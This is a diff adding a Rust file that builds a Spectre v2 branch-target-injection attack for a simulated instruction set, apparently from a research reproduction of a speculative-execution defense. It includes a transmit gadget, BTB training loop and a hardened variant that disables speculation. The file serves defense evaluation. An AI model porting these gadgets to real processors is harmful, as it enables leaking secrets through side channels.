@@ -1,0 +1,168 @@
+//! Spectre v2 against a GPR-resident secret (paper §4.2's hypothetical
+//! threat model, steered via branch-target injection).
+//!
+//! The victim legitimately loads a per-caller value into a register, then
+//! dispatches through an indirect call. Training calls select a benign
+//! input whose handler *is* the transmit gadget, priming the shared BTB
+//! entry; the attack call selects the secret-loading input whose handler
+//! is benign — but the BTB predicts the gadget, which runs on the wrong
+//! path with the secret live in the GPR.
+//!
+//! This is the attack class that separates strict from permissive
+//! propagation (Table 2): permissive marks only *loads* unsafe, and the
+//! gadget's `shl`/`add` chain on a GPR is pure arithmetic, so permissive
+//! (and load restriction) leak here while strict blocks.
+
+use crate::layout::*;
+use crate::util;
+use nda_isa::{Asm, Program, Reg};
+
+/// Where the victim's per-caller values live: `[0]` = secret, `[1]` =
+/// the benign decoy (200).
+pub const GPR_SECRETS: u64 = 0x0074_0000;
+
+/// Rounds of 7 trainings + 1 attack call.
+const ROUNDS: u64 = 32;
+
+/// Build the attack program for `secret`.
+pub fn program(secret: u8) -> Program {
+    build(secret, false)
+}
+
+/// Build the attack against a *hardened* victim that wraps its
+/// secret-in-GPR window in `SpecOff`/`SpecOn` — the paper's Listing 4
+/// (`stop_speculative_exec()` / `resume_speculative_exec()`). With
+/// speculation disabled inside the window, the indirect call resolves
+/// before anything younger dispatches, so the BTB-injected gadget never
+/// executes — on *any* core, even insecure OoO.
+pub fn hardened_program(secret: u8) -> Program {
+    build(secret, true)
+}
+
+fn build(secret: u8, hardened: bool) -> Program {
+    let mut asm = Asm::new();
+    let ra = nda_isa::reg::RA;
+    let main = asm.new_label();
+    let victim = asm.new_label();
+    let handler_a = asm.new_label();
+    let handler_b = asm.new_label();
+    asm.jmp(main);
+
+    // Benign handler (dispatched for sel = 0, the secret-bearing caller).
+    asm.bind(handler_a);
+    asm.nop();
+    asm.ret();
+
+    // The transmit gadget (a *legitimate* handler for sel = 1): leaks
+    // whatever is in X15 through the probe array. Runs architecturally
+    // during training, so it must not clobber the caller's loop registers
+    // (X9 is the round counter).
+    asm.bind(handler_b);
+    asm.shli(Reg::X8, Reg::X15, 9);
+    asm.li(Reg::X24, PROBE_BASE);
+    asm.add(Reg::X8, Reg::X8, Reg::X24);
+    asm.ld1(Reg::X10, Reg::X8, 0);
+    asm.ret();
+
+    // victim(sel in X2): load the caller's value into a GPR, dispatch.
+    asm.bind(victim);
+    asm.st8(ra, Reg::X19, 0);
+    asm.subi(Reg::X19, Reg::X19, 8);
+    if hardened {
+        asm.spec_off(); // Listing 4 line 1: stop_speculative_exec()
+    }
+    asm.shli(Reg::X3, Reg::X2, 3);
+    asm.li(Reg::X4, GPR_SECRETS);
+    asm.add(Reg::X4, Reg::X4, Reg::X3);
+    asm.ld8(Reg::X15, Reg::X4, 0); // GPR-resident secret (architectural!)
+    asm.shli(Reg::X6, Reg::X2, 3);
+    asm.li(Reg::X18, TARGET_TABLE);
+    asm.add(Reg::X6, Reg::X6, Reg::X18);
+    asm.ld8(Reg::X7, Reg::X6, 0); // handler pointer (flushed -> slow)
+    asm.call_ind(Reg::X7); // the steering point
+    asm.li(Reg::X15, 0); // scrub the GPR (Listing 4 line 4)
+    if hardened {
+        asm.spec_on(); // Listing 4 line 5: resume_speculative_exec()
+    }
+    asm.addi(Reg::X19, Reg::X19, 8);
+    asm.ld8(ra, Reg::X19, 0);
+    asm.ret();
+
+    // --- main -----------------------------------------------------------
+    asm.bind(main);
+    asm.li(Reg::X19, 0x00E0_0000); // software stack
+    // handler table: [0] = A (benign), [1] = B (gadget).
+    asm.li(Reg::X18, TARGET_TABLE);
+    asm.li_label(Reg::X28, handler_a);
+    asm.st8(Reg::X28, Reg::X18, 0);
+    asm.li_label(Reg::X28, handler_b);
+    asm.st8(Reg::X28, Reg::X18, 8);
+    util::emit_probe_flush(&mut asm);
+    // Warm the secret/decoy table.
+    asm.li(Reg::X2, GPR_SECRETS);
+    asm.ld8(Reg::X3, Reg::X2, 0);
+    asm.fence();
+
+    let atk = asm.new_label();
+    asm.li(Reg::X9, 0);
+    asm.bind(atk);
+    asm.fence();
+    // sel = 1 (decoy -> gadget handler trains the BTB) on rounds 0-6,
+    // sel = 0 (secret -> benign handler, BTB mispredicts to the gadget)
+    // on round 7. Branchless, so history stays aligned.
+    asm.andi(Reg::X26, Reg::X9, 7);
+    asm.alui(nda_isa::AluOp::Sltu, Reg::X2, Reg::X26, 7);
+    // Widen the steering window: the handler-pointer load must resolve
+    // slowly.
+    asm.li(Reg::X3, TARGET_TABLE);
+    asm.clflush(Reg::X3, 0);
+    asm.call(victim);
+    asm.addi(Reg::X9, Reg::X9, 1);
+    asm.li(Reg::X26, ROUNDS);
+    asm.bltu(Reg::X9, Reg::X26, atk);
+
+    util::emit_recover(&mut asm);
+    asm.halt();
+
+    let mut p = asm.assemble().expect("spectre v2 gpr assembles");
+    p.data.push(nda_isa::DataInit {
+        addr: GPR_SECRETS,
+        bytes: (secret as u64).to_le_bytes().to_vec(),
+    });
+    p.data.push(nda_isa::DataInit {
+        addr: GPR_SECRETS + 8,
+        bytes: 200u64.to_le_bytes().to_vec(),
+    });
+    p
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use nda_isa::Interp;
+
+    #[test]
+    fn architecturally_clean_and_scrubbed() {
+        let p = program(42);
+        let mut i = Interp::new(&p);
+        let exit = i.run(20_000_000).expect("halts");
+        assert!(exit.halted);
+        assert_eq!(exit.faults, 0);
+        // X15 is scrubbed by the victim and later reused by the recover
+        // loop's timer; it must never still hold the secret.
+        assert_ne!(i.reg(Reg::X15), 42);
+    }
+
+    #[test]
+    fn training_handler_is_the_gadget() {
+        // The gadget must be a legitimate target (sel = 1), otherwise the
+        // single tagged BTB entry could never be primed with it.
+        let p = program(9);
+        let mut i = Interp::new(&p);
+        i.run(20_000_000).unwrap();
+        // The decoy (200) was architecturally transmitted by training.
+        // Its probe slot is the only attack-touched one.
+        let decoy_slot = PROBE_BASE + 200 * 512;
+        let _ = decoy_slot; // timing state is not visible to the interp
+    }
+}
